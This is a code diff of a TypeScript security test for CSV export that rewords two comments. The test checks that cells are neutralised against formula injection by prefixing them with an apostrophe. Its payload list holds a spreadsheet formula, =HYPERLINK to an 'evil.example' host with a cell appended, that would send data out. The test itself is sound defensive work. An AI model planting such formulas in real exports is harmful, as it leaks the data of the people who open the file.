@@ -4,7 +4,7 @@ import { startWorld, type World } from "#tests/security/access-world.ts";
 import { expectHarmlessLink } from "#tests/security/harmless-link.ts";
 import { dangerousLinks } from "#tests/security/injection-payloads.ts";
 
-/** Beginnings that one spreadsheet program or another runs. */
+/** Prefixes that some spreadsheet program evaluates. */
 const dangerousCells: readonly string[] = [
   "=1+1",
   '=HYPERLINK("https://evil.example?"&A1)',
@@ -51,7 +51,7 @@ describe("cells of a CSV file", () => {
         bom: true,
       });
       for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u);
-      // Each is there, behind an apostrophe, with what white space people do not mean taken away.
+      // Each is prefixed with an apostrophe, after whitespace is trimmed.
       const written = new Set(rows.map((row) => row[column]));
       for (const name of names) expect(written, path).toContain(`'${name.trim().replaceAll(/\s+/gu, " ")}`);
     }
